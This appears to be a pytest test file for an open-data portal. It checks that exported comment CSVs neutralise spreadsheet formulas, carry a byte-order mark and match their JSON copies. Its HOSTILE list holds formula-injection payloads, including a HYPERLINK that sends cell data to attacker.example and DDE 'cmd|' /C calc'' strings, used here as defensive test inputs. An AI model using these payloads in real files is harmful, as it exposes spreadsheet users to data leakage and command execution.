"""Open-data CSV files open in a spreadsheet as text: no cell is a formula, Persian shows, and the
JSON copies keep the exact text.
"""

from __future__ import annotations

import codecs
import csv
import io
import json
import unicodedata
from pathlib import Path

import pytest
from conftest import BUILD_DATE, Repo, rayzani

from rayzani.cache.store import SHARDS, cache_root, code_digest, read_shards, write_shards
from rayzani.project import load_project
from rayzani.security.secrets import EXAMPLE_SITE_URL
from rayzani.site.files.open_data import CommentLines

FORMULA = set("=+-@\uff1d\uff0b\uff0d\uff20")
# What a participant may write where the open data publishes it (formulas of the OWASP page, and
# the ways around a check of the first character only).
HOSTILE = [
    '=HYPERLINK("https://attacker.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "   =1+1",
    "\u200f\u200b=1+1",  # a bidi mark and a zero-width space before it
    "\n@A1",
    "\uff1dSUM(A1)",  # a full-width equals sign
    "'=1+1 already quoted",
    "- a Markdown list\n- of two points",
]


def hostile_record(n: int, body: str) -> str:
    text = json.dumps
    return "\n".join(
        [
            f"id: h{n}",
            "target: sample",
            "received: 2026-11-10T10:00:00+03:30",
            "channel: form",
            f"source: form:h{n}",
            "language: en",
            f"body: {text(body)}",
            f"author: {{type: ngo, name: {text(body)}, organisation: {text(body)}, interest: {text(body)}}}",
            "decision:",
            "  status: rejected",
            f"  reason: {{fa: {text(body)}, en: {text(body)}}}",
            f"  legal_basis: {text(body)}",
            f"  decided_by: {text(body)}",
            "  date: 2026-11-20",
            "",
        ]
    )


@pytest.fixture
def portal(repo: Repo) -> Repo:
    repo.write("mkdocs.yml", f"site_name: test\nsite_url: {EXAMPLE_SITE_URL}\ndocs_dir: build/docs\n")
    for n, body in enumerate(HOSTILE):
        repo.write(f"submissions/sample/h{n}.yml", hostile_record(n, body))
    return repo


def test_a_cell_starting_with_a_carriage_return_is_neutralised_too():
    """Hand-written records refuse a CR (validation), but the one CSV writer guards every cell."""
    from rayzani.security.spreadsheet import csv_line

    [cell] = next(csv.reader(io.StringIO(csv_line(["\r=1+1"]))))
    assert cell == "'\r=1+1"


def build(repo: Repo, site: Path) -> Path:
    assert rayzani(["--root", str(repo.root), "build", "--site-dir", str(site), "--date", BUILD_DATE]) == 0
    return site


def spreadsheet_rows(path: Path) -> list[list[str]]:
    """The file as a spreadsheet reads it: a UTF-8 byte-order mark, then CSV."""
    data = path.read_bytes()
    assert data.startswith(codecs.BOM_UTF8), f"{path.name} has no byte-order mark: Excel shows mojibake"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def is_formula(cell: str) -> bool:
    if cell[:1] in ("\t", "\r"):
        return True
    seen = next((c for c in cell if not (c.isspace() or unicodedata.category(c) == "Cf")), "")
    return seen in FORMULA


def assert_no_formula(site: Path) -> list[Path]:
    files = sorted((site / "data").rglob("*.csv"))
    assert {p.name for p in files} == {"comments.csv", "statistics.csv"}
    for path in files:
        for number, row in enumerate(spreadsheet_rows(path), start=1):
            formulas = [cell for cell in row if is_formula(cell)]
            assert not formulas, f"{path.relative_to(site)} row {number} opens as formulas: {formulas}"
    return files


def test_no_csv_cell_opens_as_a_formula_and_the_json_keeps_the_exact_text(portal, tmp_path):
    site = build(portal, tmp_path / "site")
    assert_no_formula(site)
    header, *rows = spreadsheet_rows(site / "data" / "sample" / "comments.csv")
    hostile = {row[header.index("id")]: dict(zip(header, row, strict=True)) for row in rows}
    array = json.loads((site / "data" / "sample" / "comments.json").read_text("utf-8"))
    published = {row["id"]: row for row in array}
    columns = ["body", "author_name", "organisation", "declared_interest", "decision_reason_fa",
               "decision_reason_en", "legal_basis", "decided_by"]  # fmt: skip
    records = {r.id: r for r in load_project(portal.root).portal.comments_on("sample")}
    for n in range(len(HOSTILE)):
        record = records[f"h{n}"]
        reason = record.decision.reason
        # The JSON: exactly the text the portal holds (read as Rayzani reads every text: line
        # breaks as LF, invisible controls dropped), which is still a formula to a spreadsheet.
        exact = [record.body, record.author.name, record.author.organisation, record.author.interest,
                 reason.fa, reason.en, record.decision.legal_basis, record.decision.decided_by]  # fmt: skip
        assert [published[f"h{n}"][c] for c in columns] == exact
        for column, text in zip(columns, exact, strict=True):
            assert is_formula(text) or text.startswith("'")
            # The CSV: one apostrophe in front, so removing one gives the exact text back.
            assert hostile[f"h{n}"][column] == "'" + text
    assert hostile["c1"]["body"] == published["c1"]["body"]  # an ordinary comment is left as it is


def test_the_data_package_says_how_the_csv_files_are_encoded(portal, tmp_path):
    site = build(portal, tmp_path / "site")
    package = json.loads((site / "data" / "datapackage.json").read_text(encoding="utf-8"))
    by_path = {r["path"]: r for r in package["resources"]}
    for path in assert_no_formula(site):
        resource = by_path[path.relative_to(site / "data").as_posix()]
        # "utf-8" is the IANA name the spec asks for; the BOM is U+FEFF encoded in UTF-8, which
        # BOM-aware readers drop; the description says so, and how cells were neutralised.
        assert resource["encoding"] == "utf-8" and resource["mediatype"] == "text/csv"
        assert "byte-order mark" in resource["description"]
        assert "remove one leading apostrophe" in resource["description"]
        header = spreadsheet_rows(path)[0]
        assert header == [f["name"] for f in resource["schema"]["fields"]]


def test_lines_kept_by_an_earlier_format_are_never_served(portal, tmp_path):
    build(portal, tmp_path / "first")
    folder = cache_root(portal.root) / "open-data"
    kept = read_shards(folder, CommentLines.VERSION, code_digest())
    assert kept, "the build kept no open-data lines"
    # What the first format kept: the same lines named without a format, and written without
    # neutralising a cell; as if only the format, not the code, had changed.
    old = {}
    for name, (_, json_line) in kept.items():
        out = io.StringIO(newline="")
        csv.writer(out, lineterminator="\r\n").writerow(json.loads(json_line).values())
        old[name.split("/", 1)[1]] = (out.getvalue(), json_line)
    for shard in folder.glob("*.pickle"):
        shard.unlink()
    earlier = CommentLines.VERSION - 1
    write_shards(folder, earlier, code_digest(), old, set(range(SHARDS)))
    assert read_shards(folder, earlier, code_digest()) == old
    site = build(portal, tmp_path / "second")
    assert_no_formula(site)
    assert (site / "data/sample/comments.csv").read_bytes() == (
        tmp_path / "first" / "data/sample/comments.csv"
    ).read_bytes()
